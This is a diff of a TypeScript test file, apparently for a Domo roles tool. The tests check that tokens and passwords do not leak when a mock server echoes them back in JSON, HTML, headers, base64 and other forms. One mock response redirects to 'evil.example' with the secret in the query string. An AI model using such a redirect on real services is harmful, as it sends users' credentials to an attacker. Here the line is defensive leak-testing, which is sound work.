@@ -13,33 +13,32 @@ const TOKEN = 'planted-tok3n/+=with"marks';
 const PASSWORD = 'planted pässword <&>';
 const HALVES = ['planted-tok3n', 'planted pässword', 'planted%20p', encodeURIComponent(PASSWORD)];
 
-/** What a server does to an answer to have it tell the secret that it was sent. */
+/** Ways in which a server echoes the secret that it received. */
 const ECHOES: Record<string, (response: ServerResponse, secret: string) => void> = {
   'a JSON error': (response, secret) => json(response, 400, { status: 400, message: `bad ${secret}` }),
-  'a JSON error of another form': (response, secret) =>
-    json(response, 500, { error: { deep: [secret] }, secret }),
+  'a nested JSON error': (response, secret) => json(response, 500, { error: { deep: [secret] }, secret }),
   'a plain error': (response, secret) => text(response, 403, `no: ${secret}`),
   'an HTML error': (response, secret) =>
     html(response, 502, `<html><title>${secret}</title>${secret}</html>`),
-  'a page that blocks': (response, secret) =>
+  'a block page': (response, secret) =>
     html(response, 200, `<html><title>Domo - Blocked ${secret}</title></html>`),
   'a redirect': (response, secret) => {
     response.writeHead(302, { location: `https://evil.example/?t=${encodeURIComponent(secret)}` }).end();
   },
-  headers: (response, secret) => {
+  'response headers': (response, secret) => {
     const header = Buffer.from(secret, 'utf8').toString('latin1');
     response.writeHead(429, { 'retry-after': header, 'x-echo': header, 'content-type': header }).end(secret);
   },
-  'a type of content': (response, secret) => {
+  'a content type': (response, secret) => {
     response.writeHead(200, { 'content-type': Buffer.from(secret, 'utf8').toString('latin1') }).end('[]');
   },
   base64: (response, secret) => text(response, 401, Buffer.from(secret).toString('base64')),
-  'an escaped address': (response, secret) => text(response, 401, encodeURIComponent(secret)),
+  'URL encoding': (response, secret) => text(response, 401, encodeURIComponent(secret)),
   'JSON in JSON': (response, secret) => json(response, 401, { message: JSON.stringify({ secret }) }),
   'half a document': (response, secret) =>
     text(response, 200, `[{"id": 1, "name": ${JSON.stringify(secret)}`),
-  'an answer of the wrong form': (response, secret) => json(response, 200, { [secret]: secret }),
-  'a list of the wrong form': (response, secret) => json(response, 200, [secret, { id: secret, name: 7 }]),
+  'a response of the wrong shape': (response, secret) => json(response, 200, { [secret]: secret }),
+  'a list of the wrong shape': (response, secret) => json(response, 200, [secret, { id: secret, name: 7 }]),
 };
 
 function json(response: ServerResponse, status: number, value: unknown): void {
@@ -92,7 +91,7 @@ afterEach(() => rm(join(stage.folder, '.env'), { force: true }));
 
 const TARGET = { DOMO_INSTANCE: 'acme', DOMO_ROLES_DEBUG: '1', DOMO_ROLES_RETRIES: '1' };
 
-/** Each way in which a secret is given. */
+/** Each way to supply a secret. */
 const WAYS: [string, () => Promise<{ env: Record<string, string>; flags: string[] }>][] = [
   ['the environment', async () => ({ env: { DOMO_ACCESS_TOKEN: TOKEN, DOMO_BASE_URL: url }, flags: [] })],
   ['a token file', async () => ({ env: { DOMO_BASE_URL: url }, flags: ['--token-file', 'token.txt'] })],
@@ -112,9 +111,9 @@ const WAYS: [string, () => Promise<{ env: Record<string, string>; flags: string[
   ],
 ];
 
-describe('a server that tells back the secret it was sent', () => {
+describe('a server that echoes the secret it received', () => {
   it.each(Object.keys(ECHOES).flatMap((way) => WAYS.map(([given]): [string, string] => [way, given])))(
-    'by %s, given by %s, makes nothing show it',
+    'does not make it appear in any output: echoed by %s, supplied by %s',
     async (way, given) => {
       echo = ECHOES[way] as typeof echo;
       const { env, flags } = await (WAYS.find(([name]) => name === given) as (typeof WAYS)[number])[1]();
@@ -139,8 +138,8 @@ describe('a server that tells back the secret it was sent', () => {
     },
   );
 
-  it('shows it neither as a process, with its stack asked for', async () => {
-    for (const way of ['a JSON error', 'headers', 'a list of the wrong form']) {
+  it('does not make it appear in the output of a process with stack traces enabled', async () => {
+    for (const way of ['a JSON error', 'response headers', 'a list of the wrong shape']) {
       echo = ECHOES[way] as typeof echo;
       const env = { ...TARGET, DOMO_BASE_URL: url, DOMO_ACCESS_TOKEN: TOKEN };
       const ended = await stage.runWith(env, 'plan', '--verbose');
@@ -164,14 +163,14 @@ describe('a secret in the wrong place', () => {
     ],
     ['the name of an instance', { DOMO_INSTANCE: TOKEN, DOMO_ACCESS_TOKEN: TOKEN }],
     [
-      'a proxy',
+      'the address of a proxy',
       { HTTPS_PROXY: `http://user:${encodeURIComponent(PASSWORD)}@127.0.0.1:9`, DOMO_ACCESS_TOKEN: TOKEN },
     ],
     [
-      'a proxy that is none',
+      'an invalid proxy',
       { HTTPS_PROXY: `socks5://${encodeURIComponent(PASSWORD)}@x`, DOMO_ACCESS_TOKEN: TOKEN },
     ],
-  ])('%s, is not shown', async (_, env) => {
+  ])('is not printed: %s', async (_, env) => {
     for (const format of ['text', 'json']) {
       const ended = await runWithin(['plan', '--format', format, '--verbose', '--retries', '0'], {
         cwd: stage.folder,
@@ -190,7 +189,7 @@ describe('the files of a run', () => {
   });
   afterEach(() => own.close());
 
-  it('hold no secret, and are their owner’s alone', async () => {
+  it('contain no secret and are accessible only to their owner', async () => {
     own.sandbox.setFaults([{ name: '500', method: 'DELETE', times: 0 }]);
     const applied = await own.run('apply', '--yes', '--verbose');
     expect([applied.code, secretIn(applied)]).toEqual([5, []]);
